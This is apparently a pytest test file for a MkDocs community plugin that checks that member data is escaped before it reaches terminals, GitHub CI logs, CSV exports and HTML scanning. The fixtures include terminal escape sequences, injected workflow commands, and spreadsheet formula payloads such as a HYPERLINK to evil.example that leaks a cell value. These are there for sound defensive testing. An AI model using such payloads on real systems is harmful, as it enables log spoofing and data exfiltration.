"""Data never becomes a command: terminals, CI logs, spreadsheets, the topic vocabulary
and the HTML the adapter post-processes (issue 20, item 3).

Values below are valid YAML (escaped in double quotes) that reach an error message, a
report or a page: ESC sequences that erase the line and set the window title, GitHub
workflow commands after a line break or anywhere ('##['), spreadsheet formulas, and
text that looks like the tags the adapter looks for.
"""

from __future__ import annotations

import csv
import io
import json
import re
from argparse import Namespace

import pytest
from test_hostile import base_site

from conftest import SiteFactory
from mkdocs_community.adapters.pullrequest import git as pullrequest
from mkdocs_community.adapters.pullrequest.ownership import Verdict
from mkdocs_community.core.neutralise import (
    DANGEROUS_RANGES,
    dangerous,
    safe_json,
    safe_output,
    terminal_text,
    write_csv,
)
from mkdocs_community.outputs import html_scan

ESCAPES = "\x1b[2K\r\x1b]0;owned\x07community: 0 errors\x9b31m\u202eevil"
WORKFLOW = "\n::add-mask::secret\n  ::warning file=x::fake ##[error]legacy"
_DANGER = re.compile("[" + "".join(f"{re.escape(chr(a))}-{re.escape(chr(b))}"
                                   for a, b in DANGEROUS_RANGES) + "]")


def assert_inert(text: str) -> None:
    """No character a terminal acts on, no line a GitHub runner reads as a command."""
    assert not _DANGER.search(text.replace("\n", "")), repr(text[:300])
    for line in text.splitlines():
        assert not line.lstrip().startswith("::"), line
        assert "##[" not in line, line


# -- the escaping itself -------------------------------------------------------------------

def test_terminal_text_escapes_what_acts_and_keeps_what_reads():
    assert terminal_text("a\x1b[2Kb") == "a\\x1b[2Kb"
    assert terminal_text("x\ny\rz\tw") == "x\\ny\\rz\\tw"
    assert terminal_text("\u202eevil\u2066") == "\\u202eevil\\u2066"
    assert terminal_text("\x9b\u2028\ud800\U000e0041") == "\\x9b\\u2028\\udcxx".replace(
        "\\udcxx", "\\ud800") + "\\U000e0041"
    kept = "Zoë Ñandú 山田 محمد 👩\u200d💻 \u200cx"
    assert terminal_text(kept) == kept


def test_the_ranges_cover_every_dangerous_character_of_this_python():
    missing = [hex(c) for c in range(0x110000) if dangerous(chr(c)) and not _DANGER.match(chr(c))]
    assert missing == []


def test_no_output_line_starts_a_workflow_command():
    out = safe_output("ok\n::add-mask::x\n \t::warning::y\nfine ##[error]z")
    # (The tab is escaped first, so that line no longer starts with blanks and '::'.)
    assert out.splitlines() == ["ok", "\\x3a:add-mask::x", " \\t::warning::y",
                                "fine #\\x23[error]z"]
    assert safe_output("  ::x") == "  \\x3a:x"
    assert_inert(out)


def test_json_output_keeps_the_data_and_escapes_it():
    data = {"name": ESCAPES + WORKFLOW}
    text = safe_json(json.dumps(data, indent=2, ensure_ascii=False))
    assert_inert(text)
    assert json.loads(text) == data  # the same data for tools


def test_csv_cells_are_neither_formulas_nor_commands():
    out = io.StringIO()
    write_csv(out, ["a", "b"], [["=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+1"],
                                ["-2+3", "@SUM(A1)"], ["\tx", "\ry"], ["-5", 7],
                                ["##[error]x", "safe"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'=HYPERLINK(\"https://evil.example/?\"&A1)", "'+1+1"]
    assert rows[2] == ["'-2+3", "'@SUM(A1)"]
    assert rows[3] == ["\\tx", "\\ry"]  # OWASP's tab and CR: escaped, so no cell begins so
    assert rows[4] == ["-5", "7"]  # a number stays a number
    assert rows[5] == ["#\\x23[error]x", "safe"]


# -- validate, the build log, check-pr ---------------------------------------------------

def hostile_member(site: SiteFactory) -> None:
    site.write("members/evil.yml",
               'name: Evil\njoined: "2025-13' + ESCAPES.replace("\x1b", "\\e").replace(
                   "\x07", "\\a").replace("\r", "\\r").replace("\x9b", "\\x9b").replace(
                   "\u202e", "\\u202E") + WORKFLOW.replace("\n", "\\n") + '"\n'
               '"\\e[31mkey\\n::error::x": 1\n')


@pytest.mark.slow
def test_validate_in_every_format_and_the_build_log_are_inert(site):
    base_site(site)
    hostile_member(site)
    text = site.validate()
    assert text.returncode == 1 and "members/evil.yml:2" in text.stdout
    assert_inert(text.stdout + text.stderr)
    assert "\\x1b[2K" in text.stdout  # shown, escaped, not dropped
    found = site.validate("--format", "json")
    assert_inert(found.stdout)
    messages = [d["message"] for d in json.loads(found.stdout)]
    assert any("\x1b[2K" in m for m in messages)  # tools get the data as it was
    build = site.build(check=False)
    assert build.returncode != 0 and "members/evil.yml" in build.stderr
    assert_inert(build.stdout + build.stderr)


def test_check_pr_text_is_inert(capsys):
    verdicts = [Verdict("members/a\x1b]0;x\x07.yml", True, "ok", "own profile\n::error::x"),
                Verdict("::add-mask::x.yml", False, "not-yours", "someone else's ##[error]")]
    pullrequest._report(verdicts, [], Namespace(format="text", author="mallory"))
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    assert "members/a\\x1b]0;x\\x07.yml: ok" in captured.out


# -- mentoring and reports -----------------------------------------------------------------

@pytest.mark.slow
def test_mentoring_and_report_outputs_are_inert_and_defused(site):
    site.topics["formulas"] = {"label": "=1+1", "aliases": ["@sum"]}
    site.member("mentor", name="::warning::pwned ##[error]x", skills=["formulas"],
                mentoring={"offers": ["formulas", "python"]})
    site.member("mentee", name="=HYPERLINK(\"https://evil.example/\")", skills=["formulas"],
                mentoring={"seeks": ["formulas"]})
    out = site.community("mentoring", cli=True)  # the installed command's own output
    assert out.returncode == 0, out.output
    assert_inert(out.stdout)
    assert "pwned" in out.stdout
    table = site.community("mentoring", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(table.stdout)))
    assert rows[0]["mentee_name"] == "'=HYPERLINK(\"https://evil.example/\")"
    # A cell could begin a line (the first column): it never starts a command either.
    assert rows[0]["mentor_name"] == "\\x3a:warning::pwned #\\x23[error]x"
    assert_inert(table.stdout)
    data = json.loads(site.community("mentoring", "--format", "json").stdout)
    assert data["suggestions"][0]["mentee_name"] == "=HYPERLINK(\"https://evil.example/\")"
    stats = site.community("report", "stats", "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(stats.stdout)) for cell in row]
    assert "'=1+1" in cells and "=1+1" not in cells
    assert_inert(site.community("report", "stats").stdout)


# -- the topic vocabulary --------------------------------------------------------------------

def test_topic_labels_get_the_record_text_checks(site):
    base_site(site)
    site.topics.update({
        "bidi": {"label": "Py\u202ethon"},
        "huge": {"label": "x" * 225_000},
        "ctrl": {"label": "ok", "aliases": ["a\x1bb"]},
        "shape": {"label": {"nested": "map"}},
        "many": {"label": "Many", "aliases": [f"m{i}" for i in range(30)]},
        "fine": {"label": "Fine", "description": "A fine topic."},
    })
    found = json.loads(site.validate("--format", "json").stdout)
    by_topic = {(d["code"], d["message"].split("'")[1]) for d in found}
    assert by_topic == {("deceptive-text", "bidi"), ("too-long", "huge"),
                        ("control-character", "ctrl"), ("wrong-type", "shape"),
                        ("too-long", "many")}
    assert all(d["path"] == "content/topics.yml" and d["line"] > 0 for d in found)


# -- HTML post-processing reads tags -------------------------------------------------------

LOOKALIKES = ('Quoting `property="og:title"` and data-cm-feedback, '
              '[a link](https://example.org "</footer></head><meta property=og:x>").')


def test_html_scan_skips_text_attribute_values_comments_and_scripts():
    page = ('<!doctype html><html><head><title>property="og:x" &lt;/head&gt;</title>'
            '<script>var s = "</head><meta property=\\"og:y\\">";</script>'
            '<!-- </head> --></head><body><p>data-cm-feedback &lt;/footer&gt;</p>'
            '<a title="<footer data-cm-feedback></footer></body>">x</a>'
            '<footer class="md-footer">f</footer></body></html>')
    end, tagged = html_scan.head(page, "og:")
    assert page[end:].startswith("</head><body>") and not tagged
    marks = html_scan.landmarks(page, "data-cm-feedback")
    assert not marks.marked
    assert page[marks.footer_end:].startswith("</footer></body></html>")
    assert page[marks.body_end:] == "</body></html>"
    real = page.replace('<footer class', '<footer data-cm-feedback class')
    assert html_scan.landmarks(real, "data-cm-feedback").marked


@pytest.mark.slow
def test_a_bio_that_looks_like_markup_keeps_the_preview_tags_and_footer(site):
    site.plugin_options["feedback_url"] = "https://github.com/example/test/discussions"
    base_site(site)
    site.member("quoter", name="Quoter", bio=LOOKALIKES)
    site.build()
    page = site.page("members/quoter/")
    head, body = page[:page.index("</head>")], page[page.index("</head>"):]
    # The text a substring search would have taken for the tags is there, as text...
    assert 'property="og:title"' in body and "data-cm-feedback," in body
    # ...and changes nothing: the preview tags are in the head, the block in the footer.
    assert '<meta property="og:title" content="Quoter' in head
    assert page.count("data-cm-feedback") >= 1 and "Share your feedback" in page
    footer = page[page.rindex("<footer"):]
    assert "Share your feedback" in footer
